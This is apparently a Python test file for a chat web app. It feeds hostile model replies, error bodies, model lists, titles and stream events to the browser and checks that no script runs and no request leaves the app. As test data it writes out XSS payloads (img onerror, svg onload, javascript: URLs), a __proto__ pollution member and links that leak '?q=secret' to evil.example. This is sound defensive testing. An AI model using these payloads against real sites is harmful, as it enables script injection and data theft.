"""What a model, a provider or an error may hold, in a browser: no script runs, nothing leaves (17, 20 to 24, 45)."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from tests.render.xss_corpus import VECTORS
from tests.upstream import event
from tests.web.fortress import Fortress, opened_fortress, say
from tests.web.watched import FIND_FAULTS, Watched, lead, opened_watched

pytestmark = pytest.mark.asyncio(loop_scope="module")
EVIL = '<img src=https://evil.example/x onerror="alert(1)">"\'><svg/onload=alert(1)>{{7*7}}</code></pre></template>'


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def watched(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Watched]:
    """One for all tests here."""
    home: Path = tmp_path_factory.mktemp("watched") / "home"
    async with opened_fortress(home) as fortress, opened_watched(fortress) as watched:
        yield watched


async def converse(fortress: Fortress, texts: list[str]) -> str:
    """A conversation in which each text is asked and answered with itself."""
    conversation = None
    for text in texts:
        question = text if text.strip() and is_whole(text) else "?"
        fortress.hostile.scripts[question] = say(text)
        conversation = (await fortress.say(question, conversation))["conversation"]
    assert conversation is not None
    return conversation


def is_whole(text: str) -> bool:
    """Whether it can be sent: half a surrogate pair cannot."""
    return text.encode("utf-8", "replace").decode() == text


@pytest.mark.parametrize("texts", [VECTORS[::5], pytest.param(VECTORS, marks=pytest.mark.long)], ids=["sample", "all"])
async def test_the_corpus_in_history(watched: Watched, texts: list[str]) -> None:
    """Attacks 17 and 21 to 24: each of the corpus as a question, as a title and as a reply that was stored."""
    conversations = [await converse(watched.fortress, texts[at : at + 14]) for at in range(0, len(texts), 14)]
    async with watched.visit() as tab:
        await tab.screen("new")
        for conversation in conversations:
            await lead(tab, f"/c/{conversation}")
            await tab.until("location.pathname", f"/c/{conversation}")
            assert await tab.page.evaluate(FIND_FAULTS, ".said, .block, .sidebar .title, main h1") == []
            count = "document.querySelectorAll('.from-actor[data-state=done] .block').length"
            assert await tab.ask(count) >= await tab.ask("document.querySelectorAll('.from-user').length") > 0


async def test_the_trap_snaps(watched: Watched) -> None:
    """What looks for faults finds them, and what listens hears, so that their silence means something."""
    async with watched.visit() as tab:
        await tab.screen("new")
        await tab.page.evaluate("""() => {
            const box = document.createElement("div");
            box.className = "block";
            const image = document.createElement("img");
            const link = document.createElement("a");
            link.setAttribute("href", "javascript:1");
            box.append(image, link, document.createElement("iframe"));
            document.querySelector("main").append(box);
            alert(1);
        }""")
        assert len(await tab.page.evaluate(FIND_FAULTS, ".block")) == 3
        assert await tab.ask("window.__pwned.splice(0)") == ["alert"]
        await tab.page.evaluate("() => { new Image().src = 'https://evil.example/x'; }")
        await tab.see("performance.now()", lambda _: tab.problems)
        assert "img-src" in tab.problems.pop(0)
        tab.problems.clear()


def hostile_reply(id: str) -> list[bytes]:
    """Every member that reaches a page, written by an enemy."""
    call = {"index": 0, "id": EVIL, "type": "function", "function": {"name": EVIL, "arguments": EVIL}}
    cited = [
        {"type": "url_citation", "url_citation": {"url": url, "title": EVIL, "content": EVIL}}
        for url in (
            "https://a.example/x",
            "javascript:alert(1)",
            f"https://a.example/{EVIL}",
            'https://a"onclick=alert(1)/',
        )
    ]
    images = [
        {"type": "image_url", "image_url": {"url": url}}
        for url in (EVIL, "https://evil.example/x.png", "data:image/svg+xml,<svg/>")
    ]
    delta = {
        "content": "x",
        "reasoning": EVIL,
        "tool_calls": [call],
        "annotations": cited,
        "images": images,
        "role": EVIL,
    }
    base = {"id": id, "model": EVIL, "provider": EVIL, "system_fingerprint": EVIL, "service_tier": EVIL}
    choice: dict[str, Any] = {"index": 0, "delta": delta, "finish_reason": None}
    end = {**choice, "delta": {}, "finish_reason": EVIL, "native_finish_reason": EVIL}
    usage = {"prompt_tokens": 1, "completion_tokens": 1, "cost": EVIL, "cost_details": {EVIL: EVIL}}
    return [event({**base, "choices": [choice]}), event({**base, "choices": [end], "usage": usage})]


async def test_every_other_text_of_a_reply(watched: Watched) -> None:
    """Attack 17: model, provider, ids, reasoning, tool calls, citations, pictures, reasons and figures are text."""
    fortress = watched.fortress
    fortress.hostile.scripts["all"] = hostile_reply(f"gen-{EVIL}")
    async with watched.visit() as tab:
        await tab.screen("new")
        await tab.say("all")
        await tab.stands(".from-actor:not([data-state=streaming]) .receipt")
        for _ in range(2):
            shown = await tab.ask("document.querySelector('.from-actor').textContent")
            assert shown.count("onerror") >= 4
            assert "{{7*7}}" in shown
            assert await tab.page.evaluate(FIND_FAULTS, ".from-actor") == []
            await tab.page.evaluate("() => document.querySelectorAll('main details').forEach(each => each.open = true)")
            await lead(tab, await tab.ask("location.pathname"))
        assert await tab.ask("document.querySelectorAll('.citations a').length") >= 1
        assert await tab.ask("document.querySelector('.chit-line bdi').textContent.includes('onerror')")


@pytest.mark.parametrize("status", [400, 401, 402, 403, 404])
async def test_error_texts(watched: Watched, status: int) -> None:
    """Attack 17: message, metadata, provider and raw body of an error are text, and its links lead nowhere."""
    metadata = {"provider_name": EVIL, "raw": EVIL, "reasons": [EVIL], "flagged_input": EVIL, "model_slug": EVIL}
    body = {"error": {"code": status, "message": f"{EVIL} see javascript:alert(1)", "metadata": metadata}}
    watched.fortress.hostile.errors[f"error {status}"] = status, json.dumps(body).encode()
    async with watched.visit() as tab:
        await tab.screen("new")
        await tab.say(f"error {status}")
        await tab.stands(".failure")
        links = "[...document.querySelectorAll('.failure a')].map(link => link.origin)"
        assert set(await tab.ask(links)) <= {"https://openrouter.ai", watched.fortress.server.address}
        assert await tab.ask("document.querySelectorAll('.failure img, .failure svg, .failure script').length") == 0


async def test_names_of_models_and_of_browsers(watched: Watched) -> None:
    """Attack 17: the list of models, titles, and what a browser calls itself are text wherever they stand."""
    fortress = watched.fortress
    fortress.hostile.reads["/models"] = {
        "data": [
            {"id": EVIL, "name": EVIL, "pricing": {"prompt": EVIL}, "context_length": EVIL, "expiration_date": EVIL}
        ]
    }
    made = await fortress.say("x")
    title = {"title": EVIL}
    assert (await fortress.ask("PATCH", f"/c/{made['conversation']}", token=fortress.token, body=title)).status == 204
    async with watched.visit(f"/c/{made['conversation']}", user_agent=f"{EVIL} Firefox/1 Linux") as tab:
        await tab.screen("conversation")
        assert await tab.text("main h1") == EVIL
        assert await tab.ask("document.title.includes('onerror')")
        await tab.page.fill(".model-field .model-input", "img")
        await tab.stands(".model-field [data-model]")
        assert await tab.text(".model-field [data-model] .id") == EVIL
        await tab.page.press(".model-field .model-input", "Escape")
        await lead(tab, "/settings")
        await tab.screen("settings")
        assert "Firefox on Linux" in await tab.ask("document.querySelector('main').textContent")
        bad = "document.querySelectorAll('main img, main svg, .sidebar img, .sidebar svg, .bar img, .bar svg').length"
        assert await tab.ask(bad) == 0


async def test_events_that_nobody_knows(watched: Watched) -> None:
    """Attack 20: events of other types, comments and members that look like ours change nothing on the page."""
    reset = json.dumps({"type": "reset", "seq": 10**9, "html": EVIL})
    ended = json.dumps({"type": "ended", "message": "x", "html": EVIL, "choices": []})
    strange = f"event: ended\ndata: {ended}\n\nevent: reset\nid: 1\nretry: 1\ndata: {reset}\n\n: {EVIL}\n\ndata\n\n"
    strange += f"event: message\ndata: {json.dumps({'blocks': [['set', 0, EVIL]], '__proto__': {'x': 1}})}\n\n"
    watched.fortress.hostile.scripts["strange"] = [strange.encode(), *say("calm"), strange.encode()]
    async with watched.visit() as tab:
        await tab.screen("new")
        await tab.say("strange")
        await tab.stands(".from-actor[data-state=done]")
        assert await tab.text(".reply") == "calm"
        assert await tab.ask("document.querySelectorAll('main img, main svg').length") == 0


async def test_a_whole_visit_stays_at_home(watched: Watched) -> None:
    """Attacks 23, 24 and 45: over every screen, a reply, a failure and a reload, the browser asks nobody but Chit."""
    text = "![x](https://evil.example/?q=secret) <link rel=prefetch href=https://evil.example/y> https://evil.example"
    watched.fortress.hostile.scripts["visit"] = say(text)
    async with watched.visit() as tab:
        asked: list[str] = []
        tab.page.on("request", lambda request: asked.append(request.url))
        await tab.screen("new")
        await tab.say("visit")
        await tab.stands(".from-actor[data-state=done]")
        path = await tab.ask("location.pathname")
        for other in ("/settings", "/leave?to=https://evil.example", "/", path):
            await tab.page.goto(f"{watched.fortress.server.address}{other}")
            await tab.until("document.body.dataset.screen !== 'wait'")
        await tab.page.evaluate("() => { window.__pwned = []; }")
        await tab.page.hover(".reply a")
        assert {url.split("/")[2] for url in asked} == {f"127.0.0.1:{watched.fortress.port}"}
